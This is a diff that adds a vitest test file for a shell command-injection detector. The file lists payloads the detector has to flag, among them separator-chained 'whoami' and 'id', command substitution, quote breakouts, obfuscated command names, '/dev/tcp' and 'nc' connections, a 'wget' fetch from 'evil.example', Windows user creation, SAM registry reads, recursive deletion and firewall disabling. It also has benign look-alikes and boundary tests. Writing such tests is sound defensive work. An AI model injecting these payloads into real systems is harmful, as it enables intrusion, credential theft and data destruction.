@@ -1,0 +1,137 @@
+// Values that run a command of their own, by the way they break out, and texts that have commands in them.
+import { describe, expect, it } from 'vitest';
+import {
+  SHELL_ARGUMENTS_READ_MAX,
+  SHELL_NAME_BYTES_MAX,
+  SHELL_SEPARATORS_READ_MAX,
+  SHELL_WRAPPERS_MAX,
+} from '../../../../src/core/limits.ts';
+import { Arguments, NUMBER, ROOTED } from '../../../../src/detect/shell/argument.ts';
+import { detectShell } from '../../../../src/detect/shell/detect-shell.ts';
+
+function expectAll(values: readonly string[], expected: boolean): void {
+  expect(values.filter((value) => detectShell(value) !== expected)).toEqual([]);
+}
+
+describe('attacks', () => {
+  it.each<[string, readonly string[]]>([
+    [
+      'behind a separator',
+      [
+        '127.0.0.1;whoami',
+        'x|id',
+        'x && uname -a',
+        'x || cat /etc/hosts',
+        'x & ipconfig',
+        '; sleep 5',
+        ';id;',
+        'a|id|',
+      ],
+    ],
+    ['on a line of its own', ['127.0.0.1\nid', '\nls -la', 'x\r\nuname -a\r\n', '\\nid\\n', ';id\\n']],
+    [
+      'substituted',
+      ['$(id)', 'x$(sleep 5)', '`id`', 'a `curl http://x/`', '<(cat notes.txt)', 'x;`wget http://x'],
+    ],
+    ['out of quotes', ["'; id; '", '"; cat /etc/hosts #', "x');id;", "a'|whoami|'", "' ; w ; '"]],
+    [
+      'with a name that hides',
+      [
+        "x;w'h'oami",
+        'x;c\\at notes',
+        'x;/b?n/c?t notes',
+        'x;ca$@t notes',
+        'x;c${z}at /etc/hosts',
+        'x;$a$b /etc/hosts',
+      ],
+    ],
+    [
+      'behind other commands',
+      ['x; sudo -l', 'x; nohup nc 10.0.0.1 80', 'x; exec 5<>/dev/tcp/10.0.0.1/80', 'x;sudo nohup timeout id'],
+    ],
+    [
+      'of Windows',
+      [
+        'x & dir c:\\',
+        'x & net user eve pw /add',
+        'x|reg query hklm\\sam',
+        'x & type %systemroot%\\win.ini',
+        'x; get-childitem env:',
+        'x & rd /s /q c:\\data',
+        'x & netsh firewall set opmode disable',
+      ],
+    ],
+    ['with interpreters', ["x;python3 -c 'import os'", 'x|php -r "x"', 'x; node /tmp/x', 'x|perl']],
+    [
+      'with a long text in front, when they are sure',
+      ['this is a nice host to look at; wget http://evil.example/x'],
+    ],
+  ])('%s', (_, values) => expectAll(values, true));
+});
+
+describe('what only has commands in it', () => {
+  it.each<[string, readonly string[]]>([
+    [
+      'prose',
+      [
+        'salt & pepper',
+        'bread; more butter',
+        'find & replace',
+        'drag & sort',
+        'cut | fold | wash',
+        'q&a; get-together',
+      ],
+    ],
+    [
+      'net and other words',
+      ['gross & net user numbers', 'yes; set the table', 'a | who is it', 'x; type of drive'],
+    ],
+    [
+      'command lines',
+      [
+        'npm run build && rm -rf dist',
+        'cat notes.txt | grep -v x',
+        '$ ls -la; id',
+        'webpack --watch | tee -a log',
+      ],
+    ],
+    ['scripts', ['npm ci\nnpm test\ncurl -s http://x\nls\n', 'a=$(cat x)\nb\n', '# title\n\n```ruby\nx\n']],
+    [
+      'logs',
+      ['jun 1 10:00:00 kim sudo: a : tty=pts/0 ; pwd=/ ; command=/bin/ls', 'a\nb\nc\nd; cat /etc/hosts'],
+    ],
+    [
+      'markdown',
+      ['see the `id` of it', 'call `sleep 5` then go on with it', 'pass the `id` on, then `sleep 5` twice'],
+    ],
+    ['agents', ['mozilla/5.0 (x11; u; linux i686; id; rv:1.9.2)', 'x (compatible; curl/8.1; php 8.2)']],
+    ['tags and paths', ['dining|set|blue', 'a&id=7', 'x;sudo', 'x; /not/a/program here', 'x; $5 off', '']],
+  ])('%s', (_, values) => expectAll(values, false));
+});
+
+describe('bounds', () => {
+  it('looks at the first arguments of a command', () => {
+    const read = new Arguments();
+    read.read(`${'x '.repeat(SHELL_ARGUMENTS_READ_MAX - 1)}/etc/hosts`, 0);
+    expect(read.shapes & ROOTED).not.toBe(0);
+    read.read(`${'x '.repeat(SHELL_ARGUMENTS_READ_MAX)}/etc/hosts`, 0);
+    expect(read.shapes & ROOTED).toBe(0);
+    read.read('5 x', 0);
+    expect(read.shapes & NUMBER).toBe(0);
+  });
+
+  it('reads a name up to its longest', () => {
+    expect(detectShell(`x;${'\\'.repeat(SHELL_NAME_BYTES_MAX - 8)}whoami`)).toBe(true);
+    expect(detectShell(`x;${'\\'.repeat(SHELL_NAME_BYTES_MAX)}whoami`)).toBe(false);
+  });
+
+  it('looks through a few commands that run others', () => {
+    expect(detectShell(`x;${'sudo '.repeat(SHELL_WRAPPERS_MAX)}id`)).toBe(true);
+    expect(detectShell(`x;${'sudo '.repeat(SHELL_WRAPPERS_MAX + 1)}id`)).toBe(false);
+  });
+
+  it('looks behind as many separators', () => {
+    expect(detectShell(`${';x'.repeat(SHELL_SEPARATORS_READ_MAX - 1)};id`)).toBe(true);
+    expect(detectShell(`${';x'.repeat(SHELL_SEPARATORS_READ_MAX)};id`)).toBe(false);
+  });
+});
